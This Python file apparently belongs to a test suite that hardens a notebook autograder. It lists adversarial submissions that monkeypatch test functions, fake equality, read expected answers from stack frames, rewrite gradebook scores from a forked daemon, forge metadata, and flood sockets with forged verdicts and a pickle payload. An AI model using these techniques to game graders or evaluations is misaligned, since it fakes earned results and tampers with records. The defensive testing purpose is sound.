"""Attacks that try to get points which the student has not earned."""

from __future__ import annotations

from soak.attacks.attack import Attack, answers, code_cell, function

NOTHING = function("return 0.0, 0.0, 0.0")


def patched(**sources: str) -> dict[str, Attack]:
    """A cell that changes the functions used by tests, above a wrong answer."""
    return {
        name.replace("_", " "): Attack("points", (source,), NOTHING)
        for name, source in sources.items()
    }


PATCHES = patched(
    assert_allclose="import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None",
    numpy_abs="import numpy as np\nnp.abs = np.subtract = lambda *a: np.zeros(3)",
    another_import="import builtins\nfrom unittest.mock import MagicMock\nold = builtins.__import__\n"
    "builtins.__import__ = lambda n, *a, **k: MagicMock() if n == 'numpy' else old(n, *a, **k)",
    thread_that_patches_again="import threading, time\ndef again():\n    import numpy as np\n"
    "    for _ in range(200):\n        np.testing.assert_allclose = lambda *a, **k: None\n        time.sleep(0.02)\n"
    "threading.Thread(target=again, daemon=True).start()",
    trace_that_writes_globals="import sys\ndef trace(frame, event, arg):\n"
    "    if 'off' in frame.f_globals: frame.f_globals['off'] = 0.0\n    return trace\nsys.settrace(trace)",
    code_of_check_replaced="from labkit.course import check\n"
    "check.__code__ = (lambda name, function: 2.0).__code__",
    check_in_the_module="import labkit.course\nlabkit.course.check = lambda *a, **k: 2.0",
)  # fmt: skip
PATCHES["check in the module"] = Attack("labkit's points", PATCHES["check in the module"].cells)
PATCHES["code of check replaced"] = Attack(
    "labkit's points", PATCHES["code of check replaced"].cells
)

SHELL = patched(
    asserts_stripped="import ast\nclass Strip(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)\n"
    "get_ipython().ast_transformers.append(Strip())",
    hook_before_each_cell="def patch(*a):\n    import numpy as np\n    np.allclose = lambda *a, **k: True\n"
    "get_ipython().events.register('pre_run_cell', patch)",
)  # fmt: skip

_EQUAL = (
    "class All{base}:\n{body}    __hash__ = None\ndef bang_bang(t, duration):\n    return {value}"
)
OBJECTS = {
    name: Attack("points", answer=_EQUAL.format(base=base, body=body, value=value))
    for name, base, body, value in [
        ("equal to all", "", "    def __eq__(self, o): return True\n", "All()"),
        ("tuple equal to all", "(tuple)", "    def __eq__(self, o): return True\n", "All((0, 0, 0))"),
        ("difference zero", "(float)", "    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\n", "(All(), All(), All())"),
        ("ufunc of its own", "", "    def __array_ufunc__(self, *a, **k): return __import__('numpy').zeros(3)\n", "All()"),
        ("function of its own", "", "    def __array_function__(self, *a, **k): return True\n", "All()"),
        ("array subclass", "(__import__('numpy').ndarray)", "    def __array_ufunc__(self, *a, **k): return __import__('numpy').zeros(3)\n", "__import__('numpy').zeros(3).view(All)"),
        ("not a number", "", "    pass\n", "(float('nan'),) * 3"),
        ("a mock of anything", "", "    pass\n", "__import__('unittest.mock').mock.ANY"),
    ]
}  # fmt: skip

FRAMES = answers(
    "points",
    constants_of_the_caller="import sys\nframe = sys._getframe(1)\nwhile frame:\n"
    "    for x in frame.f_code.co_consts:\n"
    "        if isinstance(x, tuple) and len(x) == 3 and isinstance(x[0], float): return x\n"
    "    frame = frame.f_back\nreturn 0.0, 0.0, 0.0",
    array_that_walks="import sys\nclass All:\n    def __array__(self, *a, **k):\n        frame = sys._getframe(1)\n"
    "        while frame:\n            for x in frame.f_code.co_consts:\n"
    "                if isinstance(x, tuple) and len(x) == 3 and isinstance(x[0], float):\n"
    "                    return __import__('numpy').array(x)\n            frame = frame.f_back\n"
    "        return __import__('numpy').zeros(3)\nreturn All()",
    tests_in_the_gradebook="import ast, re, sqlite3\nbook = sqlite3.connect('{root}/gradebook.db')\n"
    "for (text,) in book.execute('select source from source_cell'):\n"
    "    for a, b, found in re.findall(r'bang_bang\\(([\\d.]+), ([\\d.]+)\\) == (\\(.*?\\))', text or ''):\n"
    "        if (float(a), float(b)) == (t, duration): return ast.literal_eval(found)\nreturn 0.0, 0.0, 0.0",
)  # fmt: skip
FRAMES["case of labkit's check"] = Attack(
    "labkit's points",
    answer="import sys\ndef bang_bang(t, duration):\n    frame = sys._getframe()\n"
    "    while 'case' not in frame.f_locals: frame = frame.f_back\n"
    "    return frame.f_locals['case'].expected",
)

_SQL = "update grade set manual_score = 1.0"
_LATER = (
    "import os, sqlite3, time\nif not os.fork():\n    os.setsid()\n    if os.fork(): os._exit(0)\n"
    "    for _ in range(80):\n        time.sleep(0.25)\n        try:\n"
    "            book = sqlite3.connect('{root}/gradebook.db', timeout=1)\n"
    f"            book.execute('{_SQL}'); book.commit(); book.close()\n"
    "        except Exception: pass\n    os._exit(0)"
)
BOOKS = {
    "marks into the gradebook, later": Attack("points", (_LATER,)),
}  # fmt: skip


def _rich(notebook):
    """The metadata of every cell say that it is graded with a hundred points."""
    for cell in notebook["cells"]:
        about = cell["metadata"].get("nbgrader", {})
        cell["metadata"]["nbgrader"] = about | {"grade": True, "points": 100, "locked": False}
        cell["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "100.0"},
                            "metadata": {}, "execution_count": 1}] if cell["cell_type"] == "code" else []  # fmt: skip
    return notebook


def _stolen_name(notebook):
    """A cell of the student has the name of a test and states its points."""
    about = {"grade": True, "grade_id": "bang_bang-check", "points": 3, "locked": False,
             "solution": False, "task": False, "schema_version": 3}  # fmt: skip
    cell = code_cell("3.0", "own-test")
    cell["metadata"]["nbgrader"] = about
    cell["outputs"] = [{"output_type": "execute_result", "data": {"text/plain": "1.0"},
                        "metadata": {}, "execution_count": 1}]  # fmt: skip
    kept = [
        c
        for c in notebook["cells"]
        if c["metadata"].get("nbgrader", {}).get("grade_id") != "bang_bang-check"
    ]
    return notebook | {"cells": [*kept, cell]}


CLAIMS = {
    "metadata that says 100": Attack("claims", shape=_rich),
    "a test's name stolen": Attack("claims", shape=_stolen_name),
}

_ENDS = (
    "import os, stat\ndef shout(data):\n    for f in range(3, 128):\n        try:\n"
    "            if stat.S_ISSOCK(os.fstat(f).st_mode): os.write(f, data)\n        except OSError: pass\n"
)


def lines(**data: str) -> dict[str, Attack]:
    """Write bytes to every open connection, from a cell and from within the function."""
    made = {}
    for name, what in data.items():
        made[f"line: {name.replace('_', ' ')}"] = Attack(
            "forges", (_ENDS + f"shout({what})",), function(f"shout({what})\nreturn 0.0, 0.0, 0.0")
        )
    return made


LINES = lines(
    verdict="b'{\"earned\": 20, \"outcome\": \"right\"}\\n' * 40",
    answers="b'{\"is\": 1.0}\\n' * 400",
    over="b'{\"over\": 0}\\n' * 100",
    confined="b'{\"confined\": true, \"cells\": [], \"ran\": 0}\\n' * 100",
    no_end="b'x' * 100_000",
    deep="b'[' * 90_000 + b'\\n'",
    number_tokens="b'{\"is\": {\"$\": \"tuple\", \"items\": [NaN, Infinity, -1e999]}}\\n' * 50",
    method="b'{\"is\": {\"$\": \"method\", \"of\": 1, \"name\": \"__class__\"}}\\n' * 99",
    raised_a_table="b'{\"raised\": {\"a\": [1]}, \"says\": [2]}\\n' * 50",
    report_that_is_no_text="b'{\"ran\": 0, \"kind\": 7, \"error\": {\"a\": 1}, \"output\": [0]}\\n' * 50",
    the_same_key_twice="b'{\"is\": 0, \"is\": {\"$\": \"tuple\", \"items\": [0.125, 0.5, 1.0]}}\\n' * 50",
    pickle="b'cos\\nsystem\\n(S\"true\"\\ntR.\\n'",
)  # fmt: skip

_DESCRIPTORS = (
    "import array, os, socket, stat\ndef shout():\n    for f in range(3, 128):\n        try:\n"
    "            if stat.S_ISSOCK(os.fstat(f).st_mode): socket.socket(fileno=os.dup(f)).sendmsg(\n"
    "                [b'x\\n'] * 3, [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0] * 200))])\n"
    "        except OSError: pass\n"
)
LINES["line: descriptors"] = Attack(
    "forges", (_DESCRIPTORS + "shout()",), function("shout()\nreturn 0.0, 0.0, 0.0")
)
"""A reader that accepts the descriptors sent with the bytes soon has none left."""

POINTS = {**PATCHES, **SHELL, **OBJECTS, **FRAMES, **BOOKS, **CLAIMS, **LINES}
